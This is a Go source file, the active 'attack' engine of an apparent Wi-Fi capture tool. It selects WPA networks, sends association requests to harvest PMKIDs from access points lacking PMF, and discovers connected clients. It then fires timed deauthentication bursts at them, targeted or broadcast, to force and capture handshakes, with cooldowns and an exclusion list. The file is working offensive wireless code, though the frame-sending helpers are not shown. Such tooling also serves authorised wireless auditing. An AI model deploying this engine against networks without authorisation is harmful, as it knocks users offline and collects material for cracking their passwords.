// Package attack implements the active engine: a superset of the passive
// capture engine that adds target selection, client discovery on a locked
// channel, timed deauthentication bursts, per-target cooldowns and the
// persistent exclusion list.
package attack

import (
	"log"
	"math/rand"
	"sync"
	"sync/atomic"
	"time"

	"github.com/google/uuid"

	"github.com/lcalzada-xor/snuffle/internal/capture"
	"github.com/lcalzada-xor/snuffle/internal/config"
	"github.com/lcalzada-xor/snuffle/internal/core/domain"
	"github.com/lcalzada-xor/snuffle/internal/core/ports"
	"github.com/lcalzada-xor/snuffle/internal/heap"
)

// State is the attack scheduler state.
type State int32

const (
	StateScanning State = iota
	StatePMKIDHunting
	StateNextTarget
	StateLocking
	StateAttacking
	StateWaiting
	StateBored
)

func (s State) String() string {
	switch s {
	case StateScanning:
		return "Scanning"
	case StatePMKIDHunting:
		return "PMKIDHunting"
	case StateNextTarget:
		return "NextTarget"
	case StateLocking:
		return "Locking"
	case StateAttacking:
		return "Attacking"
	case StateWaiting:
		return "Waiting"
	case StateBored:
		return "Bored"
	}
	return "Unknown"
}

// maxClients bounds the per-target client table discovered during LOCKING.
const maxClients = 8

// Engine is the attack engine. Update runs on the main loop; the installed
// packet callback feeds the subordinate capture engine and the client table.
type Engine struct {
	recon    ports.NetworkRecon
	radio    ports.RadioDriver
	gov      *heap.Governor
	cap      *capture.Engine
	excluded *ExclusionList
	pol      config.Policy
	now      func() time.Time
	sleep    func(d time.Duration)
	rng      *rand.Rand

	// Advisory hooks; both tolerate absence.
	Events  ports.EventSink
	OnBored func(networks int)

	SessionID string

	running atomic.Bool
	state   atomic.Int32

	// Target binding: the BSSID is authoritative, the index is an arena
	// handle revalidated on every tick. targetKey mirrors the BSSID for
	// the receive-task callback, which must not touch the main-thread
	// fields.
	targetKey     atomic.Uint64
	targetBSSID   domain.BSSID
	targetSSID    string
	targetChannel uint8
	targetIdx     int
	targetRSSI    int8
	haveTarget    bool
	attackID      string

	clientMu      sync.Mutex
	clients       [maxClients]domain.BSSID
	clientCount   int
	lastClientSeen time.Time

	stateEntered time.Time
	startedAt    time.Time
	scanCycles   int

	consecutiveFailedScans int
	lastBurst              time.Time
	waitExtensions         int

	huntList []candidate
	huntIdx  int
	huntSent bool
	huntSentAt time.Time

	boredSince   time.Time
	baseHopMs    uint32

	seq uint16
}

// NewEngine wires the attack engine. The subordinate capture engine runs
// with hop control off: this engine owns the channel.
func NewEngine(recon ports.NetworkRecon, radio ports.RadioDriver, gov *heap.Governor, sink ports.CaptureWriter, excluded *ExclusionList, pol config.Policy) *Engine {
	cap := capture.NewEngine(recon, gov, sink, pol)
	cap.HopControl = false
	return &Engine{
		recon:    recon,
		radio:    radio,
		gov:      gov,
		cap:      cap,
		excluded: excluded,
		pol:      pol,
		now:      time.Now,
		sleep:    time.Sleep,
		rng:      newRNG(),
	}
}

// SetClock overrides the time sources for tests.
func (e *Engine) SetClock(now func() time.Time) {
	e.now = now
	e.cap.SetClock(now)
}

// SetSleeper overrides the jitter sleep for tests.
func (e *Engine) SetSleeper(fn func(d time.Duration)) { e.sleep = fn }

// Capture exposes the subordinate capture engine (collections, hooks).
func (e *Engine) Capture() *capture.Engine { return e.cap }

// State returns the current scheduler state.
func (e *Engine) State() State { return State(e.state.Load()) }

// IsRunning reports whether the engine is started.
func (e *Engine) IsRunning() bool { return e.running.Load() }

// TargetBSSID returns the current target, if any.
func (e *Engine) TargetBSSID() (domain.BSSID, bool) {
	return e.targetBSSID, e.haveTarget
}

// TargetIndex returns the revalidated arena index of the current target.
func (e *Engine) TargetIndex() int {
	if !e.haveTarget {
		return -1
	}
	return e.targetIdx
}

// Start loads the exclusion list, starts the subordinate capture engine and
// takes over the subscriber slot.
func (e *Engine) Start() error {
	if e.running.Load() {
		return nil
	}
	e.SessionID = uuid.New().String()
	log.Printf("[ATTACK] Starting attack engine (session %s)", e.SessionID)

	if err := e.excluded.Load(); err != nil {
		log.Printf("[ATTACK] Exclusion list load failed: %v", err)
	} else if e.excluded.Len() > 0 {
		log.Printf("[ATTACK] %d protected networks loaded", e.excluded.Len())
	}

	if err := e.cap.Start(); err != nil {
		return err
	}

	now := e.now()
	e.startedAt = now
	e.scanCycles = 0
	e.consecutiveFailedScans = 0
	e.clearTarget()
	e.waitExtensions = 0
	e.huntList = nil
	e.huntIdx = 0
	e.huntSent = false
	e.baseHopMs = e.recon.HopIntervalMs()
	e.enterState(StateScanning, now)

	e.running.Store(true)
	// Replace the capture engine's slot with the wrapper that also feeds
	// client discovery.
	e.recon.SetPacketCallback(e.onPacket)
	return nil
}

// Stop aborts any attack in flight, restores the hop interval, and shuts the
// subordinate engine down. No frame is in flight after return.
func (e *Engine) Stop() {
	if !e.running.Load() {
		return
	}
	log.Printf("[ATTACK] Stopping attack engine")
	e.running.Store(false)
	e.recon.SetPacketCallback(nil)

	e.clearTarget()
	if e.recon.IsChannelLocked() {
		e.recon.UnlockChannel()
	}
	e.recon.SetHopInterval(time.Duration(e.baseHopMs) * time.Millisecond)

	e.cap.Stop()
}

// onPacket feeds the subordinate capture engine and, while a target is
// bound, collects client MACs from its data frames. Receive-task context.
func (e *Engine) onPacket(pkt *ports.RxPacket) {
	if pkt == nil || !e.running.Load() {
		return
	}
	if e.targetKey.Load() != 0 && pkt.Type == ports.PacketData && len(pkt.Payload) >= 24 {
		e.noteClient(pkt.Payload)
	}
	e.cap.HandlePacket(pkt)
}

// noteClient extracts the station side of a data frame to/from the target.
func (e *Engine) noteClient(frame []byte) {
	toDS := frame[1]&0x01 != 0
	fromDS := frame[1]&0x02 != 0
	if toDS == fromDS {
		return
	}

	var bssid, station domain.BSSID
	if fromDS {
		copy(bssid[:], frame[10:16])
		copy(station[:], frame[4:10])
	} else {
		copy(bssid[:], frame[4:10])
		copy(station[:], frame[10:16])
	}
	if bssid.Key() != e.targetKey.Load() {
		return
	}

	e.clientMu.Lock()
	// Any data frame on the target counts as client activity; only a
	// unicast station address is worth a targeted burst.
	e.lastClientSeen = e.now()
	if station[0]&0x01 == 0 {
		known := false
		for i := 0; i < e.clientCount; i++ {
			if e.clients[i] == station {
				known = true
				break
			}
		}
		if !known && e.clientCount < maxClients {
			e.clients[e.clientCount] = station
			e.clientCount++
		}
	}
	e.clientMu.Unlock()
}

func (e *Engine) snapshotClients() ([]domain.BSSID, time.Time) {
	e.clientMu.Lock()
	defer e.clientMu.Unlock()
	out := make([]domain.BSSID, e.clientCount)
	copy(out, e.clients[:e.clientCount])
	return out, e.lastClientSeen
}

func (e *Engine) resetClients() {
	e.clientMu.Lock()
	e.clientCount = 0
	e.lastClientSeen = time.Time{}
	e.clientMu.Unlock()
}

func (e *Engine) enterState(s State, now time.Time) {
	if State(e.state.Load()) != s {
		log.Printf("[ATTACK] %s -> %s", State(e.state.Load()), s)
	}
	e.state.Store(int32(s))
	e.stateEntered = now
}

func (e *Engine) clearTarget() {
	e.targetKey.Store(0)
	e.haveTarget = false
	e.targetIdx = -1
	e.targetBSSID = domain.BSSID{}
	e.targetSSID = ""
	e.attackID = ""
	e.recon.ClearProtected()
	e.resetClients()
}

// rebindTarget revalidates the arena index by BSSID after any cleanup tick.
// A vanished target clears the binding.
func (e *Engine) rebindTarget() bool {
	if !e.haveTarget {
		return false
	}
	idx := e.recon.FindNetworkIndex(e.targetBSSID)
	if idx < 0 {
		log.Printf("[ATTACK] Target %s evicted; rebinding to none", e.targetBSSID)
		e.clearTarget()
		return false
	}
	e.targetIdx = idx
	return true
}

// Update is the main-loop tick.
func (e *Engine) Update() {
	if !e.running.Load() {
		return
	}
	now := e.now()

	// Drain the subordinate engine first so handshake completion is
	// visible to this tick.
	e.cap.Update()

	// Mid-attack exclusion: honour it by aborting cleanly.
	if e.haveTarget && e.excluded.Contains(e.targetBSSID) {
		log.Printf("[ATTACK] Target %s excluded mid-attack; aborting", e.targetBSSID)
		e.abortToNextTarget(now)
		return
	}

	if e.haveTarget && !e.rebindTarget() {
		// Target evicted by the stale sweep
		if e.recon.IsChannelLocked() {
			e.recon.UnlockChannel()
		}
		e.enterState(StateNextTarget, now)
		return
	}

	switch e.State() {
	case StateScanning:
		e.updateScanning(now)
	case StatePMKIDHunting:
		e.updatePMKIDHunting(now)
	case StateNextTarget:
		e.updateNextTarget(now)
	case StateLocking:
		e.updateLocking(now)
	case StateAttacking:
		e.updateAttacking(now)
	case StateWaiting:
		e.updateWaiting(now)
	case StateBored:
		e.updateBored(now)
	}
}

func (e *Engine) abortToNextTarget(now time.Time) {
	e.clearTarget()
	if e.recon.IsChannelLocked() {
		e.recon.UnlockChannel()
	}
	e.enterState(StateNextTarget, now)
}

func (e *Engine) updateScanning(now time.Time) {
	if e.recon.IsChannelLocked() {
		e.recon.UnlockChannel()
	}
	if now.Sub(e.stateEntered) < e.pol.ScanDuration {
		return
	}
	e.scanCycles++

	if e.recon.NetworkCount() == 0 {
		e.consecutiveFailedScans++
		log.Printf("[ATTACK] Empty scan cycle (%d consecutive)", e.consecutiveFailedScans)
		if e.consecutiveFailedScans >= 3 {
			e.enterBored(now)
			return
		}
		e.enterState(StateScanning, now)
		return
	}

	e.consecutiveFailedScans = 0
	e.beginPMKIDHunt(now)
}

// beginPMKIDHunt snapshots the eligible clientless candidates.
func (e *Engine) beginPMKIDHunt(now time.Time) {
	e.huntList = e.huntList[:0]
	e.recon.EnterCritical()
	nets := e.recon.NetworksLocked()
	for i := range nets {
		n := &nets[i]
		if n.Auth == domain.AuthOpen || n.Auth == domain.AuthWEP || n.PMF {
			continue
		}
		if n.SSID == "" || e.excluded.Contains(n.BSSID) {
			continue
		}
		if e.cap.HasPMKID(n.BSSID) {
			continue
		}
		e.huntList = append(e.huntList, candidate{
			bssid:   n.BSSID,
			ssid:    n.SSID,
			channel: n.Channel,
		})
	}
	e.recon.ExitCritical()

	if len(e.huntList) == 0 {
		e.enterState(StateNextTarget, now)
		return
	}
	e.huntIdx = 0
	e.huntSent = false
	e.enterState(StatePMKIDHunting, now)
}

func (e *Engine) updatePMKIDHunting(now time.Time) {
	if now.Sub(e.stateEntered) > e.pol.PMKIDHuntMax || e.huntIdx >= len(e.huntList) {
		if e.recon.IsChannelLocked() {
			e.recon.UnlockChannel()
		}
		e.enterState(StateNextTarget, now)
		return
	}

	c := e.huntList[e.huntIdx]
	if !e.huntSent {
		e.recon.LockChannel(c.channel)
		e.sendAssocRequest(c.bssid, c.ssid)
		e.huntSent = true
		e.huntSentAt = now
		return
	}

	// Advance once the AP answered with a PMKID or the window closed
	if e.cap.HasPMKID(c.bssid) || now.Sub(e.huntSentAt) >= e.pol.PMKIDTimeout {
		e.huntIdx++
		e.huntSent = false
	}
}

func (e *Engine) updateNextTarget(now time.Time) {
	// Warm-up gate: no selection before the minimum, forced permitted
	// after the cap regardless of scan coverage.
	sinceStart := now.Sub(e.startedAt)
	if sinceStart < e.pol.TargetWarmupMin {
		return
	}
	if e.scanCycles == 0 && sinceStart < e.pol.TargetWarmupForce {
		return
	}

	c, ok := e.selectTarget(now)
	if !ok {
		if e.recon.NetworkCount() == 0 {
			e.enterBored(now)
		} else {
			e.enterState(StateScanning, now)
		}
		return
	}

	e.haveTarget = true
	e.targetKey.Store(c.bssid.Key())
	e.targetBSSID = c.bssid
	e.targetSSID = c.ssid
	e.targetChannel = c.channel
	e.targetIdx = e.recon.FindNetworkIndex(c.bssid)
	e.attackID = uuid.New().String()
	e.recon.SetProtected(c.bssid)
	e.resetClients()

	log.Printf("[ATTACK] Target selected: %s (%s) ch=%d score=%d",
		c.ssid, c.bssid, c.channel, c.score)
	e.recon.LockChannel(c.channel)
	e.enterState(StateLocking, now)
}

func (e *Engine) updateLocking(now time.Time) {
	elapsed := now.Sub(e.stateEntered)
	_, lastClient := e.snapshotClients()
	clientRecent := !lastClient.IsZero() && now.Sub(lastClient) < 5*time.Second

	switch {
	case clientRecent && elapsed >= e.pol.LockFastTrack:
		e.beginAttack(now)
	case !clientRecent && elapsed >= e.pol.LockEarlyExit:
		log.Printf("[ATTACK] No clients at %s; moving on", e.targetSSID)
		e.abortToNextTarget(now)
	}
}

func (e *Engine) beginAttack(now time.Time) {
	// Count the attempt on the live table entry
	if e.rebindTarget() {
		e.recon.EnterCritical()
		nets := e.recon.NetworksLocked()
		if e.targetIdx < len(nets) && nets[e.targetIdx].BSSID == e.targetBSSID {
			nets[e.targetIdx].AttackAttempts++
			e.targetRSSI = nets[e.targetIdx].RSSI
		}
		e.recon.ExitCritical()
	}

	log.Printf("[ATTACK] Attacking %s (%s) [%s]", e.targetSSID, e.targetBSSID, e.attackID)
	if e.Events != nil {
		e.Events.Publish(domain.CaptureEvent{
			Kind: domain.EventAttackStarted, SSID: e.targetSSID,
			BSSID: e.targetBSSID.Hex(), Channel: e.targetChannel, Timestamp: now,
		})
	}
	e.lastBurst = time.Time{}
	e.enterState(StateAttacking, now)
}

func (e *Engine) updateAttacking(now time.Time) {
	// Handshake completion, revalidated by BSSID, ends the engagement
	if e.cap.HasValidPairFor(e.targetBSSID) {
		log.Printf("[ATTACK] Handshake captured for %s; holding for stragglers", e.targetSSID)
		e.waitExtensions = 0
		e.enterState(StateWaiting, now)
		return
	}

	if now.Sub(e.stateEntered) > e.pol.AttackTimeout {
		// Timeout: cooldown scaled by signal strength
		cooldown := e.attackCooldown(e.targetRSSI)
		if e.rebindTarget() {
			e.recon.EnterCritical()
			nets := e.recon.NetworksLocked()
			if e.targetIdx < len(nets) && nets[e.targetIdx].BSSID == e.targetBSSID {
				nets[e.targetIdx].CooldownUntil = now.Add(cooldown)
			}
			e.recon.ExitCritical()
		}
		log.Printf("[ATTACK] Timeout on %s; cooldown %v", e.targetSSID, cooldown)
		e.waitExtensions = 0
		e.enterState(StateWaiting, now)
		return
	}

	if !e.lastBurst.IsZero() && now.Sub(e.lastBurst) < e.pol.DeauthBurstInterval {
		return
	}
	e.lastBurst = now

	clients, _ := e.snapshotClients()
	if len(clients) > 0 {
		for _, c := range clients {
			e.sendDeauthBurst(e.targetBSSID, c, false)
		}
	} else {
		e.sendDeauthBurst(e.targetBSSID, domain.BSSID{}, true)
	}
}

func (e *Engine) updateWaiting(now time.Time) {
	if now.Sub(e.stateEntered) < e.pol.WaitTime {
		return
	}
	// Extend up to 2x while an M1 sits without its M2
	if e.waitExtensions < 1 && e.haveTarget && e.cap.HasM1WithoutM2(e.targetBSSID) {
		e.waitExtensions++
		log.Printf("[ATTACK] Extending wait for %s (M1 without M2)", e.targetSSID)
		e.stateEntered = now
		return
	}
	e.abortToNextTarget(now)
}

func (e *Engine) enterBored(now time.Time) {
	e.clearTarget()
	if e.recon.IsChannelLocked() {
		e.recon.UnlockChannel()
	}
	e.boredSince = now
	e.consecutiveFailedScans = 0

	// Fast sweep when the spectrum is empty or weak, slow when strong
	// networks exist but none are eligible.
	sweep := e.pol.BoredFastSweep
	if e.hasStrongNetwork() {
		sweep = e.pol.BoredSlowSweep
	}
	e.recon.SetHopInterval(sweep)

	n := e.recon.NetworkCount()
	log.Printf("[ATTACK] Bored (networks=%d, sweep=%v)", n, sweep)
	if e.OnBored != nil {
		e.OnBored(n)
	}
	if e.Events != nil {
		e.Events.Publish(domain.CaptureEvent{Kind: domain.EventBored, Timestamp: now})
	}
	e.enterState(StateBored, now)
}

func (e *Engine) hasStrongNetwork() bool {
	strong := false
	e.recon.EnterCritical()
	for _, n := range e.recon.NetworksLocked() {
		if int(n.RSSI) >= e.pol.AttackRSSIFloor {
			strong = true
			break
		}
	}
	e.recon.ExitCritical()
	return strong
}

func (e *Engine) updateBored(now time.Time) {
	if now.Sub(e.boredSince) < e.pol.BoredRetryTime {
		return
	}
	e.recon.SetHopInterval(time.Duration(e.baseHopMs) * time.Millisecond)
	e.enterState(StateScanning, now)
}
